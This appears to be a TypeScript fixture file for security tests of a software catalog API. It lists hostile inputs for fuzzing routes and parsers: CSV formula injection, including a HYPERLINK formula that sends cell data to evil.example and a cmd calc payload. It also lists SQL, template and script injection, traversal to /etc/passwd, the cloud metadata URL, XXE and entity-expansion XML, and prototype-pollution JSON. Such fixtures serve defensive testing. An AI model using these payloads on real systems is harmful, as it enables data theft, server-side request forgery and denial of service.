/*
 * What an attacker sends instead of what a route expects: the values the OpenAPI-driven
 * generator mixes into schema-shaped requests, and the odd path segments and entity refs the
 * traversal attack walks through. Each list is data; the tests decide what may come back.
 */

/** The demo catalog entity the traversal attacks try to reach by a path other than its name. */
export const TARGET_ENTITY = {
  kind: 'component',
  namespace: 'default',
  name: 'inventory',
  ref: 'component:default/inventory',
} as const;

/** Text of /etc/passwd: an answer holding it has read a file it must not. */
export const PASSWD_MARKER = 'root:x:0:0';

/** Strings spreadsheets run as formulas (OWASP CSV injection), leading whitespace included. */
export const FORMULAS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  ' =1+1',
  '\t=1+1',
  '\r=1+1',
  '\t\t@SUM(1)',
  '  -1+1',
];

/** Strings no route should choke on: injections, boundaries, encodings, JavaScript's own names. */
export const HOSTILE_STRINGS = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '..',
  '../../../../etc/passwd',
  '%2e%2e%2f',
  '%00',
  '\\..\\..\\windows\\win.ini',
  "' OR '1'='1",
  '"; DROP TABLE scorecards_releases; --',
  '${7*7}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  'A'.repeat(256),
  'A'.repeat(5000),
  '🦄\u200d🔥',
  '\u202eevil',
  '\ufeffBOM',
  'null',
  'NaN',
  '-Infinity',
  '1e309',
  '-0',
  '0x1f',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  TARGET_ENTITY.ref,
  ...FORMULAS,
];

/**
 * Path segments as sent, already percent-encoded or deliberately not: traversal, encoded and
 * double-encoded slashes, NUL, overlong UTF-8, malformed escapes, homoglyphs of the target's
 * name, refs with colons, a very long name. None of them names the target entity.
 */
export const ODD_PATH_SEGMENTS = [
  '..',
  '.',
  '%2e%2e',
  '%2E%2E',
  '%2e%2e%2f',
  `..%2f${TARGET_ENTITY.name}`,
  `..%2F..%2F..%2Fcomponent%2Fdefault%2F${TARGET_ENTITY.name}`,
  `x%2f..%2f${TARGET_ENTITY.name}`,
  `%252e%252e%252f${TARGET_ENTITY.name}`,
  `..%5c${TARGET_ENTITY.name}`,
  `%c0%ae%c0%ae%c0%af${TARGET_ENTITY.name}`,
  `${TARGET_ENTITY.name}%00`,
  `${TARGET_ENTITY.name}%00.json`,
  '%00',
  `${TARGET_ENTITY.name}%2f..`,
  `${TARGET_ENTITY.name}%2f`,
  `${TARGET_ENTITY.name}%2F..%2F${TARGET_ENTITY.name}`,
  `${TARGET_ENTITY.name}.`,
  `${TARGET_ENTITY.name}%E2%80%8B`,
  '%EF%BD%89%EF%BD%8E%EF%BD%96%EF%BD%85%EF%BD%8E%EF%BD%94%EF%BD%8F%EF%BD%92%EF%BD%99',
  `%D1%96${TARGET_ENTITY.name.slice(1)}`,
  `${TARGET_ENTITY.name}%3A`,
  `component%3Adefault%2F${TARGET_ENTITY.name}`,
  `component:default:${TARGET_ENTITY.name}`,
  `${TARGET_ENTITY.name};x=1`,
  `${TARGET_ENTITY.name}%3Fx%3D1`,
  `${TARGET_ENTITY.name}%23`,
  '%',
  '%zz',
  '%E0%A4%A',
  'a'.repeat(10_000),
];

/**
 * Paths with unencoded traversal between the entity's segments. A server that normalized them
 * (or a proxy in front of it) would land on the target entity's routes.
 */
export const RAW_TRAVERSALS = [
  `x/../${TARGET_ENTITY.name}`,
  `x/./../${TARGET_ENTITY.name}`,
  `x/%2e%2e/${TARGET_ENTITY.name}`,
  `x/.%2e/${TARGET_ENTITY.name}`,
  `x//../${TARGET_ENTITY.name}`,
];

/** Entity refs for query strings and bodies; none of them is the target entity's. */
export const ODD_ENTITY_REFS = [
  `component:default/../${TARGET_ENTITY.name}`,
  `component:default/x/../../default/${TARGET_ENTITY.name}`,
  `../../component/default/${TARGET_ENTITY.name}`,
  `component:../default/${TARGET_ENTITY.name}`,
  `component:default/${TARGET_ENTITY.name}/..`,
  `component:default/${TARGET_ENTITY.name}\u0000`,
  `component:default/\u0000${TARGET_ENTITY.name}`,
  `component:default/${TARGET_ENTITY.name}%00`,
  `component:default/%2e%2e%2f${TARGET_ENTITY.name}`,
  `component:default/ｉｎｖｅｎｔｏｒｙ`,
  `component:default/і${TARGET_ENTITY.name.slice(1)}`,
  `component:default/${TARGET_ENTITY.name}\u200b`,
  `component:default:${TARGET_ENTITY.name}`,
  `component:default/${TARGET_ENTITY.name}:extra`,
  `component::default/${TARGET_ENTITY.name}`,
  ':default/inventory',
  'component:/inventory',
  'component:default/',
  `component:default/${'a'.repeat(10_000)}`,
  `${'k'.repeat(300)}:default/${TARGET_ENTITY.name}`,
];

/** XML an evidence parser must refuse or read without expanding, fetching or hanging. */
export const HOSTILE_XML = [
  `<?xml version="1.0"?><!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]><testsuites><testsuite name="&x;" tests="1"><testcase name="&x;"/></testsuite></testsuites>`,
  `<?xml version="1.0"?><!DOCTYPE t SYSTEM "http://169.254.169.254/latest/meta-data/"><testsuites/>`,
  `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "aaaaaaaaaa">${Array.from(
    { length: 8 },
    (_, i) =>
      `<!ENTITY ${String.fromCharCode(98 + i)} "${`&${String.fromCharCode(
        97 + i,
      )};`.repeat(10)}">`,
  ).join('')}]><testsuites><testsuite name="&i;"/></testsuites>`,
  `<coverage line-rate="1e309" branch-rate="-1"><packages/></coverage>`,
  `<testsuites>${'<testsuite>'.repeat(20_000)}`,
  `<testsuites><testsuite tests="-5" failures="NaN"><testcase name="${'x'.repeat(
    100_000,
  )}"/></testsuite></testsuites>`,
  '<?xml version="1.0" encoding="UTF-16"?><testsuites/>',
  '\ufeff<testsuites></testsuites>',
  'TN:\nSF:../../../../etc/passwd\nDA:1,-1\nLF:-1\nLH:99999999999999999999\nend_of_record\n',
];

/** JSON text that is not what a JSON body parser hopes for. */
export const HOSTILE_JSON_TEXTS = [
  '',
  '{',
  '{"a":1,"a":2}',
  '[]',
  'null',
  '"string"',
  '1e999999',
  '\ufeff{}',
  '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}',
  `${'['.repeat(50_000)}${']'.repeat(50_000)}`,
  `{"events":${'['.repeat(5_000)}${']'.repeat(5_000)}}`,
  '{"statuses":[{"tenant":"x","status":"healthy","detail":"\\ud800"}]}',
];
